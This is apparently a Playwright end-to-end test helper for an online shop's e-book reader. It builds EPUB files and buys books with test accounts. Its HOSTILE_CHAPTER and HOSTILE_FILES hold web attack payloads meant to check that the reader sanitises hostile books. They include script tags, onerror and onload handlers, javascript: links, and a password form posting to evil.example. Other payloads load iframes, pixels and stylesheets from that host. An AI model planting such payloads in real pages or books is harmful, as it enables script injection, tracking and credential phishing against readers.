import { expect } from '@dabali/tooling/end-to-end'
import { buy, cookiesOf, logIn, newAddress, pay, productNamed } from '@dabali/tooling/purchases'
import type { Page } from '@playwright/test'
import { strToU8, zipSync } from 'fflate'

const OPF = (language: string, manifest: string) => `<package xmlns="http://www.idpf.org/2007/opf" version="3.0">
<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Bound for a story</dc:title><dc:language>${language}</dc:language></metadata>
<manifest><item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>${manifest}</manifest>`

const page = (body: string) => `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"
 xmlns:epub="http://www.idpf.org/2007/ops" xmlns:xlink="http://www.w3.org/1999/xlink"><head><title>x</title>
 <link rel="stylesheet" href="style.css"/><meta http-equiv="refresh" content="0;url=https://evil.example/"/></head><body>${body}</body></html>`

type Parts = { chapters: Record<string, string>; files?: Record<string, string>; language?: string }

/** A book with these chapters, bound as a shop would get it. */
export function bindEpub({ chapters, files = {}, language = 'en' }: Parts): Buffer {
  const names = Object.keys(chapters)
  const items = names.map((name) => `<item id="${name}" href="${name}.xhtml" media-type="application/xhtml+xml"/>`)
  const order = names.map((name) => `<itemref idref="${name}"/>`)
  const lines = names.map((name) => `<li><a href="${name}.xhtml">${name}</a></li>`)
  const css = '<item id="css" href="style.css" media-type="text/css"/>'
  const parts: Record<string, string> = {
    mimetype: 'application/epub+zip',
    'META-INF/container.xml': '<container><rootfiles><rootfile full-path="B/b.opf"/></rootfiles></container>',
    'B/b.opf': `${OPF(language, css + items.join(''))}<spine>${order.join('')}</spine></package>`,
    'B/nav.xhtml': page(`<nav epub:type="toc"><ol>${lines.join('')}</ol></nav>`),
    'B/style.css': '',
    ...Object.fromEntries(names.map((name) => [`B/${name}.xhtml`, page(chapters[name] ?? '')])),
    ...Object.fromEntries(Object.entries(files).map(([name, text]) => [`B/${name}`, text])),
  }
  return Buffer.from(zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)]))))
}

/** Attacks of a hostile book on its reader. Each that works is recorded in `window.harmed`. */
export const HOSTILE_CHAPTER = `<p id="first">Quiet words.</p>
<script>window.harmed = 'script'</script><script xmlns="http://www.w3.org/2000/svg">window.harmed = 'svg script'</script>
<img src="none.png" alt="a lost picture" onerror="window.harmed = 'onerror'"/>
<img src="https://evil.example/pixel.png" alt="a foreign picture" style="background:url(https://evil.example/style.png)"/>
<img src="drawing.svg" alt="a drawing"/>
<svg xmlns="http://www.w3.org/2000/svg" onload="window.harmed = 'svg'" width="10" height="10"><a xlink:href="javascript:harmed=1"><text y="9">x</text></a>
<image href="https://evil.example/inside.png" width="5" height="5"/><foreignObject><iframe src="https://evil.example/"/></foreignObject></svg>
<p><a href="javascript:window.harmed='link'">a bad link</a> <a href="data:text/html,&lt;script>x&lt;/script>">another bad link</a>
<a href="https://example.com/" target="_top" onclick="window.harmed='click'">a link away</a> <a href="two.xhtml#there">a link to there</a>
<a href="two.xhtml#remark" epub:type="noteref">1</a></p>
<form action="https://evil.example/"><input name="password"/><button>Log in</button></form>
<iframe src="https://evil.example/frame"/><object data="https://evil.example/object"/><embed src="https://evil.example/embed"/>
<video src="https://evil.example/film.mp4" autoplay=""/><link rel="stylesheet" href="https://evil.example/a.css"/>
<base href="https://evil.example/"/><style>@import url(https://evil.example/b.css); p { color: red }</style>
<p data-book-picture="https://evil.example/own.png" data-book-away="javascript:1" style="position:fixed;inset:0">The end of it.</p>`

export const HOSTILE_FILES = {
  'style.css': `@import url("https://evil.example/c.css"); @font-face { font-family: x; src: url(https://evil.example/x.woff2) }
:host { display: none } p { background: url(https://evil.example/d.png); position: fixed; text-align: center; color: red }`,
  'drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="parent.harmed='drawing'"><script>parent.harmed='drawing'</script>
<image href="https://evil.example/deep.png" width="9" height="9"/><rect width="20" height="20" fill="teal"/></svg>`,
}

const KHALTI = { payment_method: 'khalti' }
type Locator = { text?: { highlight: string } }
type TestEnvironment = Parameters<typeof logIn>[1]

/** Buys an e-book with a new account; returns the id and path of its reader. */
export async function ownBook(
  visitor: Parameters<typeof logIn>[0],
  environment: TestEnvironment,
  slug: string,
  language = '',
): Promise<{ id: string; path: string }> {
  await logIn(visitor, environment, newAddress('reader'))
  const cookie = await cookiesOf(visitor)
  const order = await buy(environment, { [await productNamed(environment, slug)]: 1 }, KHALTI, { cookie })
  await pay(environment, order)
  const answer = await fetch(`${environment.apiUrl}/v1/api/library/`, { headers: { cookie } })
  const [item] = ((await answer.json()) as { results: { id: string }[] }).results
  const id = item?.id ?? ''
  return { id, path: `${language}/library/${id}/read` }
}

export const text = (page: Page) => page.getByRole('document', { name: /The text of the book|किताबको पाठ/ })
/** What is said of the page, in both languages. */
export const pageStatus = (page: Page) =>
  page
    .getByRole('main')
    .getByRole('status')
    .filter({ hasText: /^(Page \d|[०-९]+ मध्ये पृष्ठ)/ })
/** The reader itself is fetched only here, and the book after it. */
export const opened = (page: Page) => expect(text(page).getByRole('article')).toBeVisible()

/** The first words of the place that this device keeps, once it is kept. */
export async function savedHighlight(page: Page, name: string): Promise<string> {
  const read = () =>
    page.evaluate((work) => {
      const kept = JSON.parse(localStorage.getItem('places') ?? '[]') as [string, { locator: Locator }][]
      return kept.find(([id]) => id === work)?.[1].locator.text?.highlight ?? ''
    }, name)
  await expect.poll(read).not.toBe('')
  return (await read()).trim().split('\n', 1)[0]?.slice(0, 24) ?? ''
}

/** Whether these words stand on the page that is shown. */
export const shows = (page: Page, words: string) =>
  text(page).evaluate((flow, wanted) => {
    const walker = document.createTreeWalker(flow, NodeFilter.SHOW_TEXT)
    const frame = flow.getBoundingClientRect()
    for (let node = walker.nextNode() as Text | null; node; node = walker.nextNode() as Text | null) {
      const at = node.data.indexOf(wanted)
      if (at < 0) continue
      const range = new Range()
      range.setStart(node, at)
      range.setEnd(node, at + 1)
      const { left, top } = range.getBoundingClientRect()
      if (left >= frame.left - 2 && left < frame.right && top >= frame.top - 2 && top < frame.bottom) return true
    }
    return false
  }, words)

export const positionOf = (page: Page, id: string) =>
  page.evaluate(
    async (item) =>
      (await fetch(`/v1/api/library/${item}/position/`)).json() as Promise<{ version: number; device: string }>,
    id,
  )

/** A finger that goes sideways over the page. */
export async function swipe(page: Page, by: number) {
  const touch = await page.context().newCDPSession(page)
  const at = (x: number) => [{ x, y: 400 }]
  await touch.send('Input.dispatchTouchEvent', { type: 'touchStart', touchPoints: at(180) })
  for (const share of [0.3, 0.6, 1]) {
    await touch.send('Input.dispatchTouchEvent', { type: 'touchMove', touchPoints: at(180 + by * share) })
  }
  await touch.send('Input.dispatchTouchEvent', { type: 'touchEnd', touchPoints: [] })
}
